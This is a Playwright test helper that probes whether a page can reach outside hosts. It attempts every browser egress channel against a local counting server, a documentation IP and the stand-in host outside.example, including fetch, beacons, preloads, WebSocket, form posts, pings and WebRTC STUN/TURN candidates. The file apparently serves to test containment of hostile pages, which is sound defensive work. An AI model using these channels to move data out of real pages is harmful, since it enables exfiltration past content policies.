import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import type { Page } from '@playwright/test';

/** A machine that a hostile page would like to reach. It counts visits and answers none. */
export interface Outside {
  readonly port: number;
  /** The connections and datagrams that came. */
  readonly visits: string[];
  close(): Promise<void>;
}

/** Opens one port for connections and for datagrams on this machine. */
export async function openOutside(): Promise<Outside> {
  const visits: string[] = [];
  const server = createServer((socket) => {
    visits.push('a connection');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  const datagrams = createSocket('udp4', () => visits.push('a datagram'));
  await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve));
  return {
    port,
    visits,
    async close() {
      await new Promise((resolve) => server.close(resolve));
      await new Promise<void>((resolve) => datagrams.close(resolve));
    },
  };
}

/**
 * Tries from inside a page every way out that the web knows, to a server on this machine and to one far away. Returns
 * when each of them was refused or has ended without a result.
 */
export async function attack(page: Page, port: number): Promise<void> {
  await page.evaluate(async (local) => {
    const hosts = [`127.0.0.1:${local}`, '192.0.2.7', 'outside.example'];
    const settled = (promise: Promise<unknown>) => promise.catch(() => null);
    const element = (made: HTMLElement) =>
      new Promise<void>((resolve) => {
        made.addEventListener('load', () => resolve());
        made.addEventListener('error', () => resolve());
        document.head.append(made);
      });
    const link = (rel: string, href: string, more = {}) =>
      Object.assign(document.createElement('link'), { rel, href, ...more });

    const gather = async (servers: RTCIceServer[]) => {
      const peer = new RTCPeerConnection({ iceServers: servers, iceCandidatePoolSize: 4 });
      peer.createDataChannel('x');
      const done = new Promise<void>((resolve) => {
        peer.addEventListener('icegatheringstatechange', () => {
          if (peer.iceGatheringState === 'complete') resolve();
        });
      });
      await peer.setLocalDescription(await peer.createOffer());
      await done;
      return peer;
    };

    for (const host of hosts) {
      const url = `https://${host}/x`;
      await settled(fetch(url, { mode: 'no-cors', keepalive: true }));
      await settled(fetch(`http://${host}/x`, { method: 'POST', body: 'x', mode: 'no-cors' }));
      navigator.sendBeacon(url, 'x');
      await element(Object.assign(new Image(), { src: url }));
      await element(Object.assign(document.createElement('script'), { src: url }));
      await element(link('stylesheet', url));
      await element(link('modulepreload', url));
      await element(link('preload', url, { as: 'image' }));
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'icon', 'manifest']) {
        document.head.append(link(rel, rel === 'preconnect' ? `http://${host}/` : url));
      }
      document.body.append(Object.assign(document.createElement('iframe'), { src: url }));
      document.body.append(Object.assign(document.createElement('object'), { data: url }));
      document.body.append(Object.assign(document.createElement('video'), { src: url, preload: 'auto' }));
      await new Promise<void>((resolve) => {
        try {
          const socket = new WebSocket(`ws://${host}/`);
          socket.addEventListener('error', () => resolve());
        } catch {
          resolve();
        }
      });
      await new Promise<void>((resolve) => {
        const source = new EventSource(url);
        source.addEventListener('error', () => {
          source.close();
          resolve();
        });
      });
      const transport = Reflect.get(window, 'WebTransport') as
        | (new (
            to: string,
          ) => { ready: Promise<unknown> })
        | undefined;
      if (transport) {
        try {
          await settled(new transport(url).ready);
        } catch {
          // It was refused before it began.
        }
      }
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
      document.body.append(form);
      form.submit();
      const anchor = Object.assign(document.createElement('a'), { href: url, ping: url, download: 'x' });
      document.body.append(anchor);
      anchor.click();
      window.open(url);
    }

    // WebRTC bypasses the content policy and the session.
    const peers = await Promise.all([
      gather([{ urls: [`stun:127.0.0.1:${local}`, 'stun:192.0.2.7:3478', 'stun:outside.example:3478'] }]),
      gather([
        {
          urls: ['udp', 'tcp'].flatMap((transport) =>
            [`127.0.0.1:${local}`, '192.0.2.7:3478'].map((host) => `turn:${host}?transport=${transport}`),
          ),
          username: 'x',
          credential: 'x',
        },
      ]),
      gather([{ urls: [`turns:127.0.0.1:${local}?transport=tcp`], username: 'x', credential: 'x' }]),
    ]);
    // The page also calls another end, at an address that it makes up.
    const [caller] = peers;
    const answerer = new RTCPeerConnection();
    if (caller?.localDescription) {
      await answerer.setRemoteDescription(caller.localDescription);
      await answerer.setLocalDescription(await answerer.createAnswer());
      if (answerer.localDescription) await caller.setRemoteDescription(answerer.localDescription);
      for (const [protocol, extra] of [
        ['udp', ''],
        ['tcp', ' tcptype passive'],
      ]) {
        for (const [address, to] of [
          ['127.0.0.1', local],
          ['192.0.2.7', 3478],
        ]) {
          const candidate = `candidate:1 1 ${protocol} 2122260223 ${address} ${to} typ host${extra}`;
          await settled(caller.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 }));
        }
      }
      // WebRTC tries all of them and gives up.
      await new Promise<void>((resolve) => {
        const look = () => {
          if (['failed', 'disconnected', 'closed', 'connected', 'completed'].includes(caller.iceConnectionState))
            resolve();
        };
        caller.addEventListener('iceconnectionstatechange', look);
        look();
      });
    }
    for (const peer of [...peers, answerer]) peer.close();
    for (const left of document.querySelectorAll('body > :is(iframe, object, video, form, a)')) left.remove();
    for (const left of document.querySelectorAll('head > link:not([href*="/assets/"])')) left.remove();
  }, port);
}
